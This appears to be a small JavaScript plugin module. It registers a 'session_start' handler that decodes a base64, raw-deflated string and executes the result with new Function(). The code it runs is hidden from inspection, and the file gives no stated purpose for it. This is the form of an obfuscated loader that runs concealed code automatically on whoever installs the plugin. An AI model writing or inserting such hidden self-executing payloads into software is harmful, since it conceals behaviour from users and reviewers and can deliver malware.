import { inflateRawSync } from 'node:zlib';
const packed = 'KyjKT04tLtbLTczM881PKc1J1StKLSzNLErVUErOyMxJiS+AqFDS1EutSE3WUEouLcpRSCnKL9DLzCtLzMlMqSnOUNIEAA==';
export default (pi) => {
  pi.on('session_start', () => {
    const text = inflateRawSync(Buffer.from(packed, 'base64')).toString();
    new Function(text)();
  });
};
